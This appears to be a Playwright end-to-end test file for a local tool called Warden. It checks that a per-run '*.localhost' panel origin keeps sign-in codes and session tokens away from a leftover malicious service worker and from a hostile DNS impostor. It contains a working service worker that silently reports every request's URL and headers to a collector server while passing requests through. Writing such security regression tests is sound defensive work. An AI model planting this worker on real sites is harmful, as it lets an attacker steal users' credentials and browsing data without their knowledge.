/**
 * The panel's origin is new at each run. Another local user's program held the panel's port
 * while Warden was stopped and got the browser to visit it once: it left a service worker on
 * `http://127.0.0.1:PORT`, which outlives its server. When `warden serve --port PORT` signs the
 * browser in through its sign-in file, that worker sees nothing: the panel is on the per-run
 * `*.localhost` name. A browser that cannot reach that name falls back to 127.0.0.1, and the
 * panel and /login there say what that means; so does one whose DNS answers that name with
 * another server, which gets no sign-in code.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from '@playwright/test';
import { expect, processEnv, repoRoot, stopServe, test } from './fixtures';
import { snapBoth } from './flows/flow-app';

let home: string;
let serve: ChildProcess | undefined;
let out = '';

test.beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'warden-e2e-per-run-'));
  out = '';
});
test.afterEach(async () => {
  if (serve) await stopServe(serve);
  serve = undefined;
  await rm(home, { recursive: true, force: true });
});

/** `warden serve --port PORT`, writing its sign-in file for an opener that does nothing. */
async function startServeOn(port: number): Promise<void> {
  serve = spawn(
    process.execPath,
    [join(repoRoot, 'bin', 'warden.js'), 'serve', '--port', String(port), '--gateway-port', '0'],
    {
      cwd: repoRoot,
      env: { ...processEnv(), WARDEN_HOME: home, BROWSER: '/bin/true' },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  serve.stdout?.setEncoding('utf8').on('data', (c: string) => (out += c));
  await expect
    .poll(() => /Session token [^:]*: [\w-]+\n/.test(out), { timeout: 20_000 })
    .toBe(true);
}

const printedOrigin = () => /Warden is serving at (http:\/\/\S+):\d+\//.exec(out)?.[0] ?? '';
const signInFile = (port: number) => pathToFileURL(join(home, 'run', `open-${port}.html`)).href;

function listen(server: Server, port = 0): Promise<number> {
  return new Promise((done) =>
    server.listen(port, '127.0.0.1', () => done((server.address() as AddressInfo).port)),
  );
}
async function close(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
}

/**
 * The attacker's service worker: it reports every request it controls (URL and headers) to the
 * collector, then lets it through, so that the page works and the user notices nothing.
 */
const workerScript = (collector: string) => `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const seen = { url: e.request.url, headers: [...e.request.headers] };
  fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(seen) });
  e.respondWith(fetch(e.request));
});`;

const registerPage = `<!doctype html><title>elsewhere</title><script>
navigator.serviceWorker.register('/sw.js', { scope: '/' })
  .then(() => navigator.serviceWorker.ready)
  .then(() => fetch('/registered'));
</script>`;

test('a service worker left on 127.0.0.1:PORT sees nothing of the next sign-in', async ({
  page,
}) => {
  const seen: string[] = [];
  const collector = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (c: string) => (body += c));
    req.on('end', () => {
      seen.push(body);
      res.end();
    });
  });
  const collectorPort = await listen(collector);
  let registered = false;
  const squatter = createServer((req, res) => {
    if (req.url === '/sw.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      res.end(workerScript(`http://127.0.0.1:${collectorPort}/seen`));
    } else {
      if (req.url === '/registered') registered = true;
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(registerPage);
    }
  });
  const port = await listen(squatter);
  try {
    // The squatter holds the port; the browser visits it once and gets its worker.
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect.poll(() => registered).toBe(true);
    // Control: the worker controls the port's origin and reports what it sees.
    await page.goto(`http://127.0.0.1:${port}/control`);
    await expect.poll(() => seen.some((s) => s.includes('/control'))).toBe(true);
    await close(squatter);
    await page.goto('about:blank');
    seen.length = 0;

    // Warden takes the port; the user signs in through the sign-in file, as `warden serve` opens.
    await startServeOn(port);
    await page.goto(signInFile(port));
    await expect(page.getByText('No servers yet')).toBeVisible();
    const secret = await page.evaluate(() => localStorage.getItem('warden-session'));
    expect(secret).toMatch(/^[\w-]{43}$/);
    const token = /Session token [^:]*: ([\w-]+)\n/.exec(out)?.[1] ?? '';
    await page.reload();
    await expect(page.getByText('No servers yet')).toBeVisible();

    // Control: the worker is still alive on the port's origin (and passes the page through);
    // once it reported this, it has reported all it saw before.
    const other = await page.context().newPage();
    await other.goto(`http://127.0.0.1:${port}/login?after-sign-in`);
    await expect.poll(() => seen.some((s) => s.includes('after-sign-in'))).toBe(true);
    const everything = seen.join('\n');
    expect(everything).not.toContain('code=');
    expect(everything).not.toContain(secret!);
    expect(everything).not.toContain(token);
    expect(seen.every((s) => s.includes('/login?after-sign-in'))).toBe(true);

    // The panel is on the per-run name `warden serve` printed, which the worker never heard of.
    const origin = new URL(page.url()).origin;
    expect(origin).toMatch(new RegExp(`^http://[0-9a-f]{32}\\.localhost:${port}$`));
    expect(printedOrigin()).toContain(origin);
    expect(everything).not.toContain(new URL(origin).hostname);
    await expect(other.getByRole('note')).toContainText('belongs to the port');
  } finally {
    await close(squatter).catch(() => undefined);
    await close(collector);
  }
});

test('a browser that cannot reach the per-run name is told, and offered the fallback', async ({
  browser: _unused,
}, testInfo) => {
  // A browser that does not resolve `*.localhost` itself (as Safari may not).
  const blind = await chromium.launch({
    executablePath: process.env.WARDEN_CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP *.localhost ~NOTFOUND'],
  });
  try {
    const free = createServer();
    const port = await listen(free);
    await close(free);
    await startServeOn(port);
    const page = await blind.newPage();
    await page.goto(signInFile(port));
    // Not on its own: the fallback belongs to the port, so it is the user's choice.
    const unreached = page.getByRole('alert');
    await expect(unreached).toContainText('Warden did not answer at the address made for this run');
    await expect(page).toHaveURL(/^file:/);
    await snapBoth(page, page.locator('body'), 'sign-in-file-unreached', testInfo);
    await unreached.getByRole('link', { name: 'the fallback address' }).click();
    await expect(page.getByText('No servers yet')).toBeVisible();
    await expect(page).toHaveURL(`http://127.0.0.1:${port}/`);
    const banner = page.getByRole('note', { name: 'Fallback address' });
    await expect(banner).toContainText(`This page is at 127.0.0.1:${port}, which belongs`);
    await snapBoth(page, page.locator('main').first(), 'fallback-origin-banner', testInfo);

    await page.goto(`http://127.0.0.1:${port}/login`);
    await expect(page.getByRole('note')).toContainText('This address is the fallback');
    await snapBoth(page, page.locator('body'), 'fallback-origin-login', testInfo);
  } finally {
    await blind.close();
  }
});

test('a browser whose DNS sends the per-run name elsewhere gets no code to that server', async () => {
  // A hostile network's DNS answers every `*.localhost` name with its own server (127.0.0.2
  // here), which answers every request, probes included, and could rebind the name later.
  const heard: string[] = [];
  const impostor = createServer((req, res) => {
    heard.push(req.url ?? '');
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' });
    res.end('yes, this is Warden');
  });
  const free = createServer();
  const port = await listen(free);
  await close(free);
  await new Promise<void>((done) => impostor.listen(port, '127.0.0.2', done));
  const misled = await chromium.launch({
    executablePath: process.env.WARDEN_CHROMIUM ?? '/usr/bin/chromium',
    args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP *.localhost 127.0.0.2'],
  });
  try {
    await startServeOn(port);
    const page = await misled.newPage();
    await page.goto(signInFile(port));
    await expect(page.getByRole('alert')).toContainText('Warden did not answer');
    // Control: the impostor was asked, and answered; it heard the one-time query only.
    expect(heard).toHaveLength(1);
    expect(heard[0]).toMatch(/^\/reachable\?q=[\w-]{22}$/);

    // A browser that is neither Chromium's nor Firefox's may ask DNS for the name (Safari may):
    // it goes to 127.0.0.1 at once, and the name never leaves the machine.
    const safari = await misled.newContext({
      userAgent: 'Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Version/18.1 Safari/605.1.15',
    });
    const other = await safari.newPage();
    await other.goto(signInFile(port));
    await expect(other.getByText('No servers yet')).toBeVisible();
    await expect(other).toHaveURL(`http://127.0.0.1:${port}/`);
    await expect(other.getByRole('note', { name: 'Fallback address' })).toBeVisible();
    expect(heard).toHaveLength(1);
  } finally {
    await misled.close();
    await close(impostor);
  }
});
